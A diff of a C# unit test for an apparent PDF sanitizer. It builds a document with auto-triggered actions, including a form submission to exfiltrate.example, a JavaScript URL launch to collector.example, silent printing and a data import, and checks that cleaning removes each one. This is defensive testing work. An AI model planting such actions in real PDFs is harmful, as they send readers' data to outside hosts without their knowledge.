@@ -444,11 +444,19 @@ public sealed class AttachmentTests
             uri.Elements["/Next"] = new PdfSharp.Pdf.PdfArray(doc, Action(doc, "/JavaScript", "/JS", "app.launchURL('https://collector.example')"));
             help.Elements["/A"] = uri;
             var print = Annotation(doc, "/Link");
+            var submit = Action(doc, "/SubmitForm", "/F", "https://exfiltrate.example/post");
+            pageActions.Elements["/C"] = submit;
+            var rendition = Action(doc, "/Rendition", "/JS", "renditionScript()");
+            pageActions.Elements["/PO"] = rendition;
+            var import = Action(doc, "/ImportData", "/F", "harvest.fdf");
             print.Elements["/A"] = Action(doc, "/JavaScript", "/JS", "print_silently()");
+            help.Elements["/AA"] = new PdfSharp.Pdf.PdfDictionary(doc);
+            ((PdfSharp.Pdf.PdfDictionary)help.Elements["/AA"]!).Elements["/U"] = import;
             doc.Pages[0].Elements["/Annots"] = new PdfSharp.Pdf.PdfArray(doc, help.ReferenceNotNull, print.ReferenceNotNull);
         });
 
-        var cleaned = CleanPdf(original, gone: ["/JavaScript", "app.alert", "submitForm", "collector.example", "/Launch", "calc.exe", "print_silently"]);
+        var cleaned = CleanPdf(original, gone: ["/JavaScript", "app.alert", "submitForm", "collector.example", "/Launch", "calc.exe", "print_silently",
+            "/SubmitForm", "exfiltrate.example", "renditionScript", "/ImportData", "harvest.fdf"]);
 
         using var doc = OpenPdf(cleaned);
         Assert.False(doc.Internals.Catalog.Elements.ContainsKey("/OpenAction"));
